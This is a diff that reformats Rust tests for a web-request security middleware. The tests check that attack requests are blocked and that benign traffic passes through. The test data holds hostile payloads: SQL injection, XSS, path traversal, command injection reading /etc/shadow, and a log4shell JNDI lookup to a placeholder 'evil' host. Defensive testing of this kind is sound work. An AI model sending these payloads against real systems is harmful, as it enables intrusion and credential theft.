@@ -14,24 +14,29 @@ fn rules() -> Rules {
     match Rules::embedded() {
         Ok(r) => r,
         Err(e) => {
-            let detail = e.compile_errors().map(|e| e.to_string()).unwrap_or_default();
+            let detail = e
+                .compile_errors()
+                .map(|e| e.to_string())
+                .unwrap_or_default();
             panic!("embedded rules do not compile: {e}\n{detail}")
         }
     }
 }
 
 async fn send(rules: &Rules, req: Request<Full<Bytes>>) -> (StatusCode, Bytes) {
-    let svc = ServiceBuilder::new().layer(RaspLayer::new(rules.clone())).service_fn(
-        |req: Request<rasp_tower::rasp::RaspRequestBody<Full<Bytes>>>| async move {
-            let body = req
-                .into_body()
-                .collect()
-                .await
-                .map(|c| c.to_bytes())
-                .unwrap_or_default();
-            Ok::<_, Infallible>(Response::new(Full::new(body)))
-        },
-    );
+    let svc = ServiceBuilder::new()
+        .layer(RaspLayer::new(rules.clone()))
+        .service_fn(
+            |req: Request<rasp_tower::rasp::RaspRequestBody<Full<Bytes>>>| async move {
+                let body = req
+                    .into_body()
+                    .collect()
+                    .await
+                    .map(|c| c.to_bytes())
+                    .unwrap_or_default();
+                Ok::<_, Infallible>(Response::new(Full::new(body)))
+            },
+        );
     let mut req = req;
     req.extensions_mut()
         .insert(PeerAddr("192.0.2.10:50000".parse().unwrap()));
@@ -65,15 +70,29 @@ async fn attacks_are_blocked() {
             "sqli union",
             get("/item?id=1%20UNION%20SELECT%20password%20FROM%20users--"),
         ),
-        ("xss in query", get("/?name=%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
-        ("xss event handler", get("/?x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")),
+        (
+            "xss in query",
+            get("/?name=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        ),
+        (
+            "xss event handler",
+            get("/?x=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
+        ),
         (
             "seed example",
-            post("/form", "application/x-www-form-urlencoded", "comment=<SCRIPT>x"),
+            post(
+                "/form",
+                "application/x-www-form-urlencoded",
+                "comment=<SCRIPT>x",
+            ),
         ),
         (
             "sqli in form",
-            post("/login", "application/x-www-form-urlencoded", "user=admin%27--&pass=x"),
+            post(
+                "/login",
+                "application/x-www-form-urlencoded",
+                "user=admin%27--&pass=x",
+            ),
         ),
         (
             "sqli in json",
@@ -83,7 +102,10 @@ async fn attacks_are_blocked() {
         ("traversal in path", get("/static/..%2f..%2fetc/hosts")),
         ("rce", get("/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow")),
         ("rce subshell", get("/?a=%24(whoami)")),
-        ("log4shell", get("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D")),
+        (
+            "log4shell",
+            get("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D"),
+        ),
         (
             "php",
             post(
@@ -112,7 +134,10 @@ async fn attacks_are_blocked() {
             // The block body names the transaction, never the rule.
             let text = String::from_utf8_lossy(&body);
             assert!(text.contains("transaction id:"), "{name}: {text}");
-            assert!(!text.contains("91004") && !text.contains("rule"), "{name}: {text}");
+            assert!(
+                !text.contains("91004") && !text.contains("rule"),
+                "{name}: {text}"
+            );
         }
     }
     assert!(passed.is_empty(), "attacks not blocked: {passed:?}");
@@ -125,7 +150,10 @@ async fn benign_traffic_passes() {
         ("home", get("/")),
         ("search", get("/search?q=rust+tower+middleware&page=2")),
         ("apostrophe", get("/search?q=O%27Reilly%20books")),
-        ("select word", get("/?q=please%20select%20a%20size%20from%20the%20list")),
+        (
+            "select word",
+            get("/?q=please%20select%20a%20size%20from%20the%20list"),
+        ),
         ("dots", get("/files/report.v2..final.pdf")),
         ("email", get("/?email=someone%40example.com")),
         (
@@ -161,7 +189,11 @@ async fn benign_traffic_passes() {
 async fn benign_body_reaches_the_service_unchanged() {
     let rules = rules();
     let body = "user=alice&note=hello%20world";
-    let (status, echoed) = send(&rules, post("/f", "application/x-www-form-urlencoded", body)).await;
+    let (status, echoed) = send(
+        &rules,
+        post("/f", "application/x-www-form-urlencoded", body),
+    )
+    .await;
     assert_eq!(status, StatusCode::OK);
     assert_eq!(&echoed[..], body.as_bytes());
 }
